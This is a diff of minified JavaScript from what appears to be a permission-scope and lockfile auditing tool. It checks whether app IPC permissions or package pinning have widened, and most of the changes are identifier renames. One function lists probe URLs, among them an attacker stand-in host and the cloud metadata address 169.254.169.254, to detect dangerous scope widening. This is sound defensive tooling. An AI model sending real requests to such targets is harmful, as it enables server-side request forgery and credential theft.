+return known13.set(label,found12),found12}function scopeCause(principal,entries,table2,found12,before3,platforms,base,head){const[first]=entries,owners=[...entries,
 ...table2.globalScope(first.plugin)];if(found12.because==="no-longer-denied")return entryNoLongerDenied(first,found12.entry,platforms,base,head);const detail=found12.
 entry.text,owner=entries.filter(({scope})=>scope!==null).length>0?ownerAmong(owners,found12.entry):globalOwner(table2,first.plugin,found12.entry);if(owner===void 0)
 return first.matching.kind!=="opaque"?forSetting(first,first.at,base):{reason:widened({kind:"entry-gone"}),at:first.at,entry:first,detail};const culprit=owner.scope?.
 allow.find(entry=>entry.text===detail)??found12.entry,fromRelease=culprit.at===owner.at,had=base.had(owner).filter(({scope})=>holds5(scope?.allow,detail)),known13=allowedKeys(
-before2).has(detail);if(owner.effect==="allow"&&had.length>0&&!known13){const here=had.filter(grant2=>(grant2.platforms&platforms)!==import_shared_aceps.NO_PLATFORM);
+before3).has(detail);if(owner.effect==="allow"&&had.length>0&&!known13){const here=had.filter(grant2=>(grant2.platforms&platforms)!==import_shared_aceps.NO_PLATFORM);
 return here.length===0?forNewPlatform(owner,platforms,base):forNewPage(principal,owner,here)}if(fromRelease&&base.named(owner)&&had.length===0)return newMeaning(
 owner,redefinedAt(owner,base));if(known13&&base.changedSetting(owner)!==void 0)return forSetting(owner,culprit.at,base);const note4=known13?noteOnOrder(first):noteOnReach(
 principal,owner);return{reason:widened(note4),at:culprit.at,entry:owner,detail:fromRelease?owner.permission:detail}}function forSetting(entry,at2,base){const changed=base.
@@ -11064,22 +11156,22 @@ if(scoped.length>0)return sideFrom([...inOrder2(scoped),...inOrder2(table2.globa
 set(table2,known13);const name=`${plugin} ${canonical(matching3)}`,side=known13.get(name)??sideFrom(inOrder2(table2.globalScope(plugin)),matching3);return known13.
 set(name,side),side}var NO_RULES={kind:"none"},globalSides=new WeakMap;function sideFrom(grants,matching3){return{allow:grants.flatMap(({scope})=>scope?.allow??
 []),deny:grants.flatMap(({scope})=>scope?.deny??[]),matching:matching3}}function unscoped({matching:matching3}){return{allow:[],deny:[],matching:matching3.kind===
-"text"?{kind:"text",accepts:"[]"}:matching3}}var NOTHING_POURED=new Map;function newlyPoured(head,before2){const granting=new Set(head.flatMap(({effect,at:at2})=>effect===
+"text"?{kind:"text",accepts:"[]"}:matching3}}var NOTHING_POURED=new Map;function newlyPoured(head,before3){const granting=new Set(head.flatMap(({effect,at:at2})=>effect===
 "allow"?[lineOf5(at2)]:[])),scopes=head.filter(({effect,at:at2})=>effect==="scope"&&!granting.has(lineOf5(at2))),fresh=[...Map.groupBy(scopes,({plugin})=>plugin)].
-map(([plugin,grants])=>{const had=new Set(before2.globalScope(plugin).flatMap(({scope})=>scope?.allow.map(({text:text3})=>text3)??[])),isNew2=entry=>!had.has(entry.
+map(([plugin,grants])=>{const had=new Set(before3.globalScope(plugin).flatMap(({scope})=>scope?.allow.map(({text:text3})=>text3)??[])),isNew2=entry=>!had.has(entry.
 text);return[plugin,grants.filter(({scope})=>scope?.allow.some(isNew2))]});return new Map(fresh)}function lineOf5({path,line,column}){return`${line} ${column} ${path}`}
 function sideAlone(side,entries,poured2){const elsewhere2=poured2.get(entries[0]?.plugin??"")??[];if(elsewhere2.length===0)return side;const others=new Set(elsewhere2.
 flatMap(({scope})=>scope?.allow??[]));return{...side,allow:side.allow.filter(entry=>!others.has(entry))}}function inOrder2(grants){return[...grants].sort((a3,b5)=>a3.
-order-b5.order)}function isNew({page,command:command2,before:before2}){return before2.denying(page.audiences,command2).length>0||before2.allowing(page.audiences,
-command2).length===0}function noteNewCall(question){const{page,command:command2,before:before2,after:after2,poured:poured2,ask,platforms,work}=question,entries=after2.
-allowing(page.audiences,command2),[denied2]=before2.allowing(page.audiences,command2).length>0?before2.denying(page.audiences,command2):[],scope=sideOf2(entries,
+order-b5.order)}function isNew({page,command:command2,before:before3}){return before3.denying(page.audiences,command2).length>0||before3.allowing(page.audiences,
+command2).length===0}function noteNewCall(question){const{page,command:command2,before:before3,after:after2,poured:poured2,ask,platforms,work}=question,entries=after2.
+allowing(page.audiences,command2),[denied2]=before3.allowing(page.audiences,command2).length>0?before3.denying(page.audiences,command2):[],scope=sideOf2(entries,
 after2);if(scope.matching.kind==="none"||scope.matching.kind==="opaque"){for(const platform of platforms)note(question,platform,void 0,"unscoped",causeAmong(question,
 entries,denied2,platform));return[]}const alone2=sideAlone(scope,entries,poured2),gaps=[];for(const platform of platforms){const answer2=ask(unscoped(alone2),alone2,
 command2,platform,work),{escapes,undecided}=answer2,example=escapes.find(({sensitive})=>sensitive)??escapes[0],reach2=undecided.length>0?"unscoped":example===void 0?
 "nothing":reachOf3(example),ownersFirst=example===void 0?entries:entries.toSorted(byOwning(example));note(question,platform,example,reach2,causeAmong(question,ownersFirst,
 denied2,platform)),gaps.push(...gapsOf2(command2,entries,answer2)),alone2!==scope&&gaps.push(...noteEscapes(question,entries,alone2,scope,platform))}return gaps}
-function noteWiderScope(question){const{page,command:command2,before:before2,after:after2,platforms}=question,entries=after2.allowing(page.audiences,command2),[
-head,base]=[sideOf2(entries,after2),sideOf2(before2.allowing(page.audiences,command2),before2)];return head.matching.kind==="none"||base.matching.kind==="none"?
+function noteWiderScope(question){const{page,command:command2,before:before3,after:after2,platforms}=question,entries=after2.allowing(page.audiences,command2),[
+head,base]=[sideOf2(entries,after2),sideOf2(before3.allowing(page.audiences,command2),before3)];return head.matching.kind==="none"||base.matching.kind==="none"?
 []:platforms.flatMap(platform=>noteEscapes(question,entries,base,head,platform))}function noteEscapes(question,entries,narrow,wide,platform){const{after:after2,
 base,head,command:command2,work}=question,answer2=question.ask(narrow,wide,command2,platform,work);for(const example of answer2.escapes)note(question,platform,example,
 reachOf3(example),principal=>scopeCause(principal,entries,after2,example,narrow,(0,import_shared_aceps.platformSet)(platform),base,head));return gapsOf2(command2,
@@ -11123,8 +11215,8 @@ const audiences=new Map;for(const grant2 of grants){const audience=audienceOf2(g
 [...audiences.values()]),texts2=distinct4([...masks.windows.keys(),...masks.webviews.keys()]),labels=likeLabels(texts2,work).map(label=>({word:label.word,asWindow:maskOf(
 label.matches,masks.windows),asWebview:maskOf(label.matches,masks.webviews)})),origins=likeOrigins([...masks.urls.keys()],work).map(({word:word2,matches:matches3})=>({
 word:word2,mask:word2===LOCAL?masks.local:maskOf(matches3,masks.urls)})),classes=new Classes(origins,[...audiences.keys()],work);for(const label of labels)classes.
-note(label,label);const webviews=telling2(labels,["main",...masks.windows.keys()]);for(const window of onePerMask(labels,({asWindow})=>asWindow))for(const webview of webviews)
-window!==webview&&classes.note(window,webview);return classes.all()}function telling2(labels,windows2){const known13=new Set(windows2),[ofWindows=[],others=[]]=[
+note(label,label);const webviews=telling(labels,["main",...masks.windows.keys()]);for(const window of onePerMask(labels,({asWindow})=>asWindow))for(const webview of webviews)
+window!==webview&&classes.note(window,webview);return classes.all()}function telling(labels,windows2){const known13=new Set(windows2),[ofWindows=[],others=[]]=[
 !0,!1].map(is=>labels.filter(({word:word2})=>known13.has(word2)===is));return onePerMask([...others,...ofWindows],({asWebview})=>asWebview)}var Classes=class{#found=new Map;#origins;#keys;#work;#tried=0;constructor(origins,keys,work){
 this.#origins=origins,this.#keys=keys,this.#work=work}all(){return[...this.#found.values()]}note(window,webview){if(this.#tried+=this.#origins.length,this.#tried>
 MOST_COMBINATIONS)throw new TooComplex(`more than ${MOST_COMBINATIONS} kinds of pages`);for(const origin of this.#origins){this.#work.spend(1+Math.floor(this.#keys.
@@ -11165,12 +11257,12 @@ windows.includes(pattern)?"window":"webview",label:pattern?.text??principal.wind
 text:origin}}function isForOwnPages({reason}){return reason.rule==="ipc/app-commands-open"?reason.to==="own-pages":reason.rule==="ipc/window-added"&&reason.note===
 "own-pages"}var Drafts=class{#drafts=new Map;#lines=new Map;add(cause,call2){const identity=identityOf5(cause),line=this.#lines.get(identity)??lineOf6(cause);this.#lines.
 set(identity,line);const draft=this.#drafts.get(line)??emptyDraft(cause,call2);this.#drafts.set(line,draft),draft.identities.add(identity),draft.commands.add(call2.
-command),draft.permissions.add(cause.entry.permission);const page=pageName(call2.principal,cause);draft.pages.set(keyOf7(page),page),isNoted(cause.reason)&&(draft.
+command),draft.permissions.add(cause.entry.permission);const page=pageName(call2.principal,cause);draft.pages.set(keyOf8(page),page),isNoted(cause.reason)&&(draft.
 noted??=cause.reason),draft.platforms|=(0,import_shared_aceps.platformSet)(call2.platform);const worth=worthOf(call2);(worth.rank-draft.bestWorth.rank||worth.weight-
 draft.bestWorth.weight)>0&&(draft.cause=cause,draft.best=call2,draft.bestWorth=worth,draft.bestOn=import_shared_aceps.NO_PLATFORM),isSameCall(call2,draft.best)&&
 (draft.bestOn|=(0,import_shared_aceps.platformSet)(call2.platform))}changes(direction,appIsNew){return joined8([...this.#drafts.values()].map(draft=>changeOf3(draft,
 direction,appIsNew)))}};function emptyDraft(cause,best){return{cause,noted:void 0,identities:new Set,commands:new Set,permissions:new Set,pages:new Map,platforms:import_shared_aceps.NO_PLATFORM,
-best,bestOn:import_shared_aceps.NO_PLATFORM,bestWorth:worthOf(best)}}function keyOf7({kind,label,from}){return`${kind}\0${label}\0${from.kind}\0${from.kind==="s\
+best,bestOn:import_shared_aceps.NO_PLATFORM,bestWorth:worthOf(best)}}function keyOf8({kind,label,from}){return`${kind}\0${label}\0${from.kind}\0${from.kind==="s\
 ite"?from.url:""}`}function lineOf6({reason,at:{path,line,column},detail}){const forWhom=reason.rule==="ipc/app-commands-open"?detail:"";return JSON.stringify([
 reason.rule,path,line,column,forWhom,denialIn(reason)])}function identityOf5({reason,entry,detail}){const what=reason.rule.slice(4),setting44=settingIn3(reason);
 if(setting44!==null)return JSON.stringify([what,setting44]);const denial=denialIn(reason);return denial.length>0?JSON.stringify([what,...denial,detail]):JSON.stringify(
@@ -11209,8 +11301,8 @@ return[...unreadablePatterns(grants,work)].map(([{text:text3,at:at2},why])=>{con
 text3));return(0,import_shared_acegos.gapAt)(at2,{kind:"does-not-build",rests:(0,import_shared_acegos.wordsOf)("pattern",text3,granted2.map(meaningOf3).sort()),
 message:`${(0,import_shared_acegpst.code)(text3)} ${why}. It was read as matching nothing.`})})}function patternsOf({windows:windows2,webviews,context:context2}){
 return[...windows2,...webviews,...context2.kind==="remote"?[context2.url]:[]]}var MOST_RELEVANT=500,MOST_COMMANDS2=100;function withRemovable(changes2,head,allows2){
-const byCommand=Map.groupBy(head,commandOrScope),isGone=change2=>{const{command:command2}=change2.witness,called3=[command2,wholeOf2(command2)].flatMap(name=>byCommand.
-get(name)??[]),scopes=called3[0]===void 0?[]:byCommand.get(scopeOf6(called3[0]))??[],relevant=[...new Set([...called3,...scopes])];return relevant.length<=MOST_RELEVANT&&
+const byCommand=Map.groupBy(head,commandOrScope),isGone=change2=>{const{command:command2}=change2.witness,called4=[command2,wholeOf2(command2)].flatMap(name=>byCommand.
+get(name)??[]),scopes=called4[0]===void 0?[]:byCommand.get(scopeOf6(called4[0]))??[],relevant=[...new Set([...called4,...scopes])];return relevant.length<=MOST_RELEVANT&&
 !allows2(withoutEntry(relevant,change2.at),change2)};return changes2.map(change2=>({...change2,removable:isOfEntry(change2)&&change2.commands.length<=MOST_COMMANDS2&&
 [change2,...barely(change2)].every(isGone)}))}function isOfEntry(change2){return change2.rule!=="ipc/scope-widened"||change2.note===null||change2.note.kind==="p\
 lugin-wide"}function barely(change2){return change2.rule==="ipc/scope-widened"?[]:change2.commands.map(command2=>({...change2,witness:{...change2.witness,command:command2,
@@ -11226,27 +11318,27 @@ const had=new Set(base.allow.map(({text:text3})=>text3));return{escapes:[...head
 kind==="data"?entry.value:entry.text;return{payload:because2==="allowed"?{scope:value}:{denied:value},example:entry.text,entry,because:because2,sensitive:!1}}function anything({
 at:at2}){const value="anything";return{payload:{scope:value},example:value,entry:{kind:"data",value,text:canonical(value),at:at2},because:"allowed",sensitive:!1}}
 function webUrls(work){return allUrls("",work)}function userlessUrls(work){return allUrls(NO_USER,work)}var NO_USER="no user",allUrls=remembered((users,work)=>{
-const none=ownLanguage(EMPTY),kinds2=httpKinds().map(({parts})=>users===NO_USER?{...parts,username:none,password:none}:parts);return languageOf(choice(...kinds2.
-map(parts=>written5(parts,work))),work)}),urlsOf2=remembered((text3,work)=>{const pattern=readUrlPattern(text3,work);if(typeof pattern=="string")return;const kinds2=httpKinds().
-map(({parts})=>{const within6=name=>[name,common2(partLanguage(pattern[name],work),parts[name],work)];return Object.fromEntries(URL_PART_NAMES.map(within6))});return languageOf(
-choice(...kinds2.map(parts=>written5(parts,work))),work)});function written5(parts,work){const{protocol,username,password,hostname,port,pathname,search:search2,
-hash}=parts;return sequence(words(protocol),literal("://"),login(username,password,work),words(hostname),behind(":",filled(port,work),port),words(pathname),behind(
-"?",words(search2),search2),behind("#",words(hash),hash))}function login(user,password,work){const alone2=isOpen2(password)?[filled(user,work)]:[],both3=sequence(
-words(user),literal(":"),filled(password,work)),written6=sequence(choice(...alone2,both3),literal("@"));return isOpen2(user)&&isOpen2(password)?choice(EMPTY,written6):
-written6}function behind(sign,part,language){const written6=sequence(literal(sign),part);return isOpen2(language)?choice(EMPTY,written6):written6}function isOpen2(language){
-return accepts(language,"")}var FILLED=ownLanguage(atLeastOne(ANY_CHARACTER));function filled(language,work){return words(common2(language,FILLED,work))}var urlTextQuestion=(base,head,_command,_platform,work)=>{
-const isGlobs=head.matching.kind==="url-globs",universe=isGlobs?webUrls(work):userlessUrls(work),[before2,after2]=[urlTexts(base,!isGlobs,work),urlTexts(head,!isGlobs,
-work)],answer2=compareScopes(before2,after2,readingOf4(head,universe),work);return isGlobs?answer2:{...answer2,refused:refusals2(head,work)}};function urlTexts(side,isUserless,work){
-const isGlobs=side.matching.kind==="url-globs";if(!isGlobs&&refusals2(side,work).length>0)return{allow:[],deny:[]};const read11=entry=>{const question=JSON.stringify(
-[isGlobs,isUserless,urlPatternOf(entry)]);return{entry,language:readable(()=>languages2(question,work))}};return{allow:side.allow.map(read11),deny:side.deny.map(
-read11)}}var languages2=remembered((question,work)=>{const[isGlobs,isUserless,text3]=JSON.parse(question),urls2=isGlobs?void 0:urlsOf2(text3,work),expression=isGlobs?
-globExpression(text3,FREE_GLOB):urls2&&words(urls2);return expression&&inUniverse(expression,isUserless?userlessUrls(work):webUrls(work),work)}),LOCAL_SERVICE=`\
-http://localhost:${ANY_PORT}/`;function readingOf4(head,universe){const telling3=["https://evil.example/","http://evil.example/","http://169.254.169.254/",LOCAL_SERVICE,
-"http://localhost:8080/"],named12=head.allow.flatMap(entry=>globExamples(urlPatternOf(entry)));return{universe,candidates:[...telling3,...named12].map(word2=>({
-word:word2,sensitive:isAnywhere(word2)||word2===LOCAL_SERVICE})),show:word2=>({payload:{url:word2},example:word2})}}var QUESTIONS={none:()=>NO_ESCAPE,paths:pathQuestion,
-urls:urlQuestion,"url-globs":urlTextQuestion,opener:openerQuestion,programs:programQuestion,text:textQuestion,opaque:opaqueQuestion};function scopeAsker(){const answers=new Map;
-return(base,head,command2,platform,work)=>{const{kind}=head.matching,about=[commandMatters(kind)?command2:"",platformMatters(kind)?platform:""],question=[kind,...about,
-sideKey(base),sideKey(head)].join(`
+const none=ownLanguage(EMPTY),kinds2=httpKinds().map(({parts:parts2})=>users===NO_USER?{...parts2,username:none,password:none}:parts2);return languageOf(choice(
+...kinds2.map(parts2=>written5(parts2,work))),work)}),urlsOf2=remembered((text3,work)=>{const pattern=readUrlPattern(text3,work);if(typeof pattern=="string")return;
+const kinds2=httpKinds().map(({parts:parts2})=>{const within6=name=>[name,common2(partLanguage(pattern[name],work),parts2[name],work)];return Object.fromEntries(
+URL_PART_NAMES.map(within6))});return languageOf(choice(...kinds2.map(parts2=>written5(parts2,work))),work)});function written5(parts2,work){const{protocol,username,
+password,hostname,port,pathname,search:search2,hash}=parts2;return sequence(words(protocol),literal("://"),login(username,password,work),words(hostname),behind(
+":",filled(port,work),port),words(pathname),behind("?",words(search2),search2),behind("#",words(hash),hash))}function login(user,password,work){const alone2=isOpen2(
+password)?[filled(user,work)]:[],both3=sequence(words(user),literal(":"),filled(password,work)),written6=sequence(choice(...alone2,both3),literal("@"));return isOpen2(
+user)&&isOpen2(password)?choice(EMPTY,written6):written6}function behind(sign,part,language){const written6=sequence(literal(sign),part);return isOpen2(language)?
+choice(EMPTY,written6):written6}function isOpen2(language){return accepts(language,"")}var FILLED=ownLanguage(atLeastOne(ANY_CHARACTER));function filled(language,work){
+return words(common2(language,FILLED,work))}var urlTextQuestion=(base,head,_command,_platform,work)=>{const isGlobs=head.matching.kind==="url-globs",universe=isGlobs?
+webUrls(work):userlessUrls(work),[before3,after2]=[urlTexts(base,!isGlobs,work),urlTexts(head,!isGlobs,work)],answer2=compareScopes(before3,after2,readingOf4(head,
+universe),work);return isGlobs?answer2:{...answer2,refused:refusals2(head,work)}};function urlTexts(side,isUserless,work){const isGlobs=side.matching.kind==="ur\
+l-globs";if(!isGlobs&&refusals2(side,work).length>0)return{allow:[],deny:[]};const read11=entry=>{const question=JSON.stringify([isGlobs,isUserless,urlPatternOf(
+entry)]);return{entry,language:readable(()=>languages2(question,work))}};return{allow:side.allow.map(read11),deny:side.deny.map(read11)}}var languages2=remembered(
+(question,work)=>{const[isGlobs,isUserless,text3]=JSON.parse(question),urls2=isGlobs?void 0:urlsOf2(text3,work),expression=isGlobs?globExpression(text3,FREE_GLOB):
+urls2&&words(urls2);return expression&&inUniverse(expression,isUserless?userlessUrls(work):webUrls(work),work)}),LOCAL_SERVICE=`http://localhost:${ANY_PORT}/`;function readingOf4(head,universe){
+const telling2=["https://evil.example/","http://evil.example/","http://169.254.169.254/",LOCAL_SERVICE,"http://localhost:8080/"],named12=head.allow.flatMap(entry=>globExamples(
+urlPatternOf(entry)));return{universe,candidates:[...telling2,...named12].map(word2=>({word:word2,sensitive:isAnywhere(word2)||word2===LOCAL_SERVICE})),show:word2=>({
+payload:{url:word2},example:word2})}}var QUESTIONS={none:()=>NO_ESCAPE,paths:pathQuestion,urls:urlQuestion,"url-globs":urlTextQuestion,opener:openerQuestion,programs:programQuestion,
+text:textQuestion,opaque:opaqueQuestion};function scopeAsker(){const answers=new Map;return(base,head,command2,platform,work)=>{const{kind}=head.matching,about=[
+commandMatters(kind)?command2:"",platformMatters(kind)?platform:""],question=[kind,...about,sideKey(base),sideKey(head)].join(`
 `),known13=answers.get(question);if(known13!==void 0)return known13;const answer2=sideKey(base)===sideKey(head)?NO_ESCAPE:decide2(questionFor(base,head),base,head,
 command2,platform,work);return answers.set(question,answer2),answer2}}function questionFor(base,head){return QUESTIONS[base.matching.kind==="url-globs"?"url-glo\
 bs":head.matching.kind]}function decide2(question,base,head,command2,platform,work){try{return question(base,head,command2,platform,work)}catch(error){if(error instanceof
@@ -11267,8 +11359,8 @@ witness.platform;return authorises(grants,witness,platform??import_shared_aceps.
 "deny"}function isSure({command:command2,inferred}){return command2!==import_shared_aces.ANY_APP_COMMAND||!inferred}var sureGrants=new WeakMap;function sureOf(grants){
 const known13=sureGrants.get(grants)??grants.filter(isSure);return sureGrants.set(grants,known13),known13}function gained2(base,head,direction,pages,ask,work){const drafts=new Drafts,
 undecided=new Map,sure=base.filter(isSure),openAlready=sure.length<base.length,sides={drafts,ask,work,base:indexBase(sure),head:standing(head)};for(const group2 of platformGroups(
-sure,head.filter(isSure))){const[before2,after2]=[callTable(group2.base),callTable(group2.head)],asked4={...sides,before:before2,after:after2,mayBefore:callableBy(
-pages,before2),poured:direction==="widened"?newlyPoured(group2.head,before2):NOTHING_POURED,platforms:(0,import_shared_aceps.platformsOf)(group2.platforms)};for(const page of pages)
+sure,head.filter(isSure))){const[before3,after2]=[callTable(group2.base),callTable(group2.head)],asked4={...sides,before:before3,after:after2,mayBefore:callableBy(
+pages,before3),poured:direction==="widened"?newlyPoured(group2.head,before3):NOTHING_POURED,platforms:(0,import_shared_aceps.platformsOf)(group2.platforms)};for(const page of pages)
 for(const command2 of after2.commands(page.audiences)){if(after2.denying(page.audiences,command2).length>0||openAlready&&command2===import_shared_aces.ANY_APP_COMMAND&&
 page.principals[0].origin!=="local")continue;const question={...asked4,page,command:command2},gaps=isNew(question)?noteNewCall(question):noteWiderScope(question);
 for(const gap3 of gaps)undecided.set(JSON.stringify(gap3),gap3)}}return{drafts,gaps:[...undecided.values()]}}function callableBy(pages,table2){const known13=new Map;
@@ -11313,29 +11405,29 @@ head).filter(({id})=>!known13.has(id)),first=new Map;for(const each of added)fir
 ({ecosystem,what,id,at:at2})=>({domain:"packages",direction:"widened",rule:"packages/lockfile-ambiguous",ecosystem,what,at:at2,identity:JSON.stringify(["ambiguo\
 us",at2.path,what]),witness:{kind:"package",platform:"any",ecosystem,name:at2.path,version:id,source:what,text:`${commandFor(ecosystem,at2.path)}  # takes other\
  packages from ${at2.path} than its lines show`}}))}function commandFor(ecosystem,path){return ecosystem==="cargo"?"cargo build":import_shared_ce.INSTALLS[(0,import_shared_ce.installerOf)(
-path)]}function ambiguousIn(grants){return grants.filter(grant2=>grant2.kind==="ambiguous-lockfile")}var STRENGTH=["sha512","sha384","sha256","sha1"];function pinningOf(before2,after2){
-if(before2===null||before2===after2)return"as much";if(after2===null)return"less";const[wasOf,isOf3]=[kindOf5(before2),kindOf5(after2)];if(wasOf!==isOf3)return"\
-unknown";if(isOf3!==OF_ARCHIVE)return"less";const[old,now]=[hashesOf(before2),hashesOf(after2)],[was,is]=[strongest(old),strongest(now)];if(is!==was)return is<was?
+path)]}function ambiguousIn(grants){return grants.filter(grant2=>grant2.kind==="ambiguous-lockfile")}var STRENGTH=["sha512","sha384","sha256","sha1"];function pinningOf(before3,after2){
+if(before3===null||before3===after2)return"as much";if(after2===null)return"less";const[wasOf,isOf3]=[kindOf5(before3),kindOf5(after2)];if(wasOf!==isOf3)return"\
+unknown";if(isOf3!==OF_ARCHIVE)return"less";const[old,now]=[hashesOf(before3),hashesOf(after2)],[was,is]=[strongest(old),strongest(now)];if(is!==was)return is<was?
 "unknown":"less";const[known13,named12]=[old.get(STRENGTH[is]??""),now.get(STRENGTH[is]??"")];return known13!==void 0&&named12?.isSubsetOf(known13)===!0?"as muc\
 h":"less"}var OF_ARCHIVE="archive";function kindOf5(text3){return/^([^/\s-]*)\/[0-9a-f]+$/.exec(text3)?.[1]??OF_ARCHIVE}function hashesOf(integrity){const hashes=new Map;
 for(const part of integrity.split(/\s+/)){const dash=part.indexOf("-"),[algorithm,hash]=dash<0?["sha256",part]:[part.slice(0,dash),part.slice(dash+1)];hashes.set(
 algorithm,(hashes.get(algorithm)??new Set).add(hash))}return hashes}function strongest(hashes){const index=STRENGTH.findIndex(algorithm=>hashes.has(algorithm));
 return index<0?STRENGTH.length:index}function offersIn(grants){const known13=grants.filter(grant2=>grant2.kind==="plugin-permissions");return new Map(known13.map(
-each=>[each.crate,each]))}function offerOf({name},before2,after2){const crate2=PLUGIN_HALVES.find(({npm})=>npm===name)?.crate??name,found12=after2.get(crate2);if(found12===
-void 0)return null;const known13=new Set((before2.get(crate2)?.granted??[]).map(each=>JSON.stringify(each))),granted2=found12.granted.filter(each=>!known13.has(
+each=>[each.crate,each]))}function offerOf({name},before3,after2){const crate2=PLUGIN_HALVES.find(({npm})=>npm===name)?.crate??name,found12=after2.get(crate2);if(found12===
+void 0)return null;const known13=new Set((before3.get(crate2)?.granted??[]).map(each=>JSON.stringify(each))),granted2=found12.granted.filter(each=>!known13.has(
 JSON.stringify(each)));return{byDefault:found12.byDefault,granted:granted2,wasGranted:granted2.length<found12.granted.length}}var import_parse46=(0,import_shared_acegoprst.__toESM)(
-require_parse(),1);function nearestOf(before2){const newest=new Map;for(const each of before2)for(const key3 of["",lineOf7(each)]){const known13=newest.get(key3);
+require_parse(),1);function nearestOf(before3){const newest=new Map;for(const each of before3)for(const key3 of["",lineOf7(each)]){const known13=newest.get(key3);
 (known13===void 0||isNewer2(each,known13))&&newest.set(key3,each)}return each=>newest.get(lineOf7(each))??newest.get("")}function moveBetween(from,to){return from===
 void 0?"new":from.version===to.version?"same":lineOf7(from)===lineOf7(to)?"compatible":"breaking"}function lineOf7({version,ecosystem}){const parsed10=(0,import_parse46.
 default)(version);if(parsed10===null)return version;const{major,minor,patch}=parsed10;return major>0||ecosystem==="npm"?`${major}`:minor>0?`0.${minor}`:`0.0.${patch}`}
 function isNewer2(a3,b5){const[left2,right]=[(0,import_parse46.default)(a3.version),(0,import_parse46.default)(b5.version)];return left2===null||right===null?right===
 null&&left2!==null:left2.compare(right)>0}var NOTHING11=namedOf([]);function inventoryOf(grants){const packages=distinct5(grants.filter(grant2=>grant2.kind==="p\
-ackage")),unread4=grants.filter(grant2=>grant2.kind==="unread-lockfile"),groups3=Map.groupBy(packages,import_shared_ce.packageKey),byName3=new Map([...groups3].
+ackage")),unread4=grants.filter(grant2=>grant2.kind==="unread-lockfile"),groups3=Map.groupBy(packages,import_shared_ce.packageKey),byName4=new Map([...groups3].
 map(([name,group2])=>[name,namedOf(group2)])),releases=Map.groupBy(packages,bytesOf2),same=({checksum,...each})=>(releases.get(bytesOf2(each))??[]).filter(old=>pinningOf(
 old.checksum,checksum)==="as much"),pinnedBytes=new Set(packages.filter(({outcome:outcome2,checksum})=>outcome2==="runs"&&checksum!==null).map(pinnedBytesOf)),ecosystems=new Set(
 packages.map(each=>each.ecosystem)),origins=new Set(packages.map(each=>JSON.stringify([each.ecosystem,originOf4(each.source)])));return{packages,unread:unread4,
 policies:grants.filter(grant2=>grant2.kind==="install-policy"),offers:offersIn(grants),buildSettings:grants.flatMap(grant2=>grant2.kind==="build-settings"?grant2.
-settings:[]),named:each=>byName3.get((0,import_shared_ce.packageKey)(each))??NOTHING11,same,ran:each=>same(each).some(({outcome:outcome2})=>outcome2==="runs")||
+settings:[]),named:each=>byName4.get((0,import_shared_ce.packageKey)(each))??NOTHING11,same,ran:each=>same(each).some(({outcome:outcome2})=>outcome2==="runs")||
 each.checksum!==null&&pinnedBytes.has(pinnedBytesOf(each)),isEmpty:ecosystem=>!ecosystems.has(ecosystem),takesFrom:(ecosystem,origin)=>origins.has(JSON.stringify(
 [ecosystem,origin]))}}function pinnedBytesOf({ecosystem,name,version,checksum}){return JSON.stringify([ecosystem,name,version,checksum])}function namedOf(packages){
 return{packages,origins:new Set(packages.map(each=>originOf4(each.source))),nearest:nearestOf(packages)}}function distinct5(packages){const first=new Map;for(const each of packages){
@@ -11344,15 +11436,15 @@ values()]}function originOf4(source){switch(source.kind){case"git":return`git ${
 url)}`;default:return(0,import_shared_ce.sourceText)(source)}}function hostOf2(url){return url.startsWith("file:")?"file:":/^[a-z+]+:\/\/[^/?#]*(?:\/[^/?#]*){0,2}/i.
 exec(url)?.[0]??url}function bytesOf2({ecosystem,name,version,source}){return JSON.stringify([ecosystem,name,version,(0,import_shared_ce.sourceText)(source)])}function identityOf6({
 ecosystem,name,version,source,checksum}){return JSON.stringify([ecosystem,name,version,(0,import_shared_ce.sourceText)(source),checksum])}function folderOf5(path){
-return path.slice(0,Math.max(0,path.lastIndexOf("/")))}function withAncestors2(folder){return folder===""?[""]:[folder,...withAncestors2(folderOf5(folder))]}function policyGaps(before2,after2){
-return after2.policies.flatMap(policy=>{const old=counterpartOf(policy,before2,after2);return[...lostFlags(old,policy),...thawed(old,policy)]})}function undecidedBy(before2,after2){
-const stricter=new Map(after2.policies.flatMap(policy=>{const old=counterpartOf(policy,before2,after2),ran=scriptsRunBy(old,before2);return(0,import_shared_ce.stricterThan)(
+return path.slice(0,Math.max(0,path.lastIndexOf("/")))}function withAncestors2(folder){return folder===""?[""]:[folder,...withAncestors2(folderOf5(folder))]}function policyGaps(before3,after2){
+return after2.policies.flatMap(policy=>{const old=counterpartOf(policy,before3,after2);return[...lostFlags(old,policy),...thawed(old,policy)]})}function undecidedBy(before3,after2){
+const stricter=new Map(after2.policies.flatMap(policy=>{const old=counterpartOf(policy,before3,after2),ran=scriptsRunBy(old,before3);return(0,import_shared_ce.stricterThan)(
 old,policy).map(each=>[placeOf6(each,policy.folder),ran])}));if(stricter.size===0)return after2;const packages=after2.packages.map(each=>stricter.get(placeOf6(each.
 manager,folderOf5(each.at.path)))?.(each)===!0?{...each,outcome:"runs"}:each);return inventoryOf(packages)}function placeOf6(manager,folder){return`${manager} ${folder}`}
-function scriptsRunBy(old,before2){const approved=new Set(old?.settings.flatMap(({decides:decides3,effect,of:of2})=>decides3==="approval"&&effect==="more"&&of2!==
-null?of2:[]));return each=>old===void 0||each.manager==="cargo"||old.scripts[each.manager]==="all"?!0:approved.has(each.name)||before2.named(each).packages.some(
-({outcome:outcome2})=>outcome2==="runs")}function counterpartOf(policy,before2,after2){const same=before2.policies.find(({folder})=>folder===policy.folder);if(same!==
-void 0)return same;const still=new Set(after2.policies.map(({folder})=>folder)),moved=before2.policies.filter(({folder})=>!still.has(folder)),said2=each=>new Set(
+function scriptsRunBy(old,before3){const approved=new Set(old?.settings.flatMap(({decides:decides3,effect,of:of2})=>decides3==="approval"&&effect==="more"&&of2!==
+null?of2:[]));return each=>old===void 0||each.manager==="cargo"||old.scripts[each.manager]==="all"?!0:approved.has(each.name)||before3.named(each).packages.some(
+({outcome:outcome2})=>outcome2==="runs")}function counterpartOf(policy,before3,after2){const same=before3.policies.find(({folder})=>folder===policy.folder);if(same!==
+void 0)return same;const still=new Set(after2.policies.map(({folder})=>folder)),moved=before3.policies.filter(({folder})=>!still.has(folder)),said2=each=>new Set(
 each.settings.map(meaningOf4));return moved.find(old=>said2(policy).isSubsetOf(said2(old)))}function lostFlags(old,{installs:installs2,folder,path}){if(old===void 0||
 installs2.withScripts<=old.installs.withScripts)return[];const isFirst=old.installs.withScripts===0&&old.installs.without>0;if(!isFirst&&installs2.without>=old.
